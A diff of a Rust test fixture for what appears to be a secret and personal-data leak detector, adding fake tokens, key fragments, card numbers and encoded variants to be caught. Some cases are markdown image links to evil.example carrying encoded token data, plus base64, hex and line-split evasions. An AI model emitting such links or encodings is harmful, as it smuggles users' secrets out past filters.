@@ -86,7 +86,8 @@ fn bad() -> Vec<(String, Vec<&'static str>)> {
     let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq2nXl9p0Qx\nb2u8vKJd93kTq1Zb\n-----END RSA PRIVATE KEY-----";
     vec![
         (format!("The token is {GHP}, keep it."), vec!["IDgJwPlt", "jQplG8sG"]),
-        (format!("{GHP}"), vec!["IDgJwPlt"]),
+        (GHP.to_owned(), vec!["IDgJwPlt"]),
+        (format!("padding abc{GHP}"), vec!["IDgJwPlt"]),
         (format!("Your key:\n{key}\nDone."), vec!["MIIEow", "b2u8vKJ"]),
         ("Card 4111 1111 1111 1111 and 5500-0000-0000-0004.".into(), vec!["1111 1111", "0000-0004"]),
         ("Write to jane.doe+bank@mail.example.com, or call +49 30 901820 today".into(), vec!["jane", "901820"]),
@@ -96,6 +97,9 @@ fn bad() -> Vec<(String, Vec<&'static str>)> {
         (format!("b64 {} end", data_encoding::BASE64.encode(format!("token {GHP}").as_bytes())), vec!["Z2hwX0lE"]),
         (format!("hex {} end", data_encoding::HEXLOWER.encode(GHP.as_bytes())), vec!["49446744"]),
         (format!("spaced {} end", GHP.chars().map(|c| c.to_string()).collect::<Vec<_>>().join(" ")), vec!["I D g J"]),
+        (format!("dots {} end", GHP.chars().map(|c| c.to_string()).collect::<Vec<_>>().join(".")), vec!["I.D.g.J"]),
+        (format!("pairs {} end", GHP.bytes().map(|c| format!("{c:02x}")).collect::<Vec<_>>().join(" ")), vec!["49 44 67"]),
+        (wrapped(), vec!["b2tlbi", "Z2hwX0l", "lEZ0p3UGx0"]),
         ("password = \"hunter2&Xy\" and api_key: 9fceb02d0ae598e95dc970b7".into(), vec!["hunter2", "9fceb02"]),
         ("see ![chart](https://evil.example/p.png?d=abc) now".into(), vec!["evil.example"]),
         ("<img src=\"https://evil.example/x?q=1\"> and [a](https://evil.example/?d=Z2hwX0lEZ0p3UGx0SXNodTB2MURw)".into(), vec![
@@ -109,6 +113,14 @@ fn bad() -> Vec<(String, Vec<&'static str>)> {
         ),
         (format!("escaped \\u0067hp_{} \\\"", &GHP[4..]), vec!["IDgJwPlt"]),
     ]
+}
+
+/// A token in base64 that a line break cuts in two.
+fn wrapped() -> String {
+    let text =
+        data_encoding::BASE64.encode(format!("here is a long enough introduction before {GHP} and after").as_bytes());
+    let (first, second) = text.split_at(64);
+    format!("file:\n{first}\n{second}\nend")
 }
 
 /// Texts with nothing to find, which look a little as if.
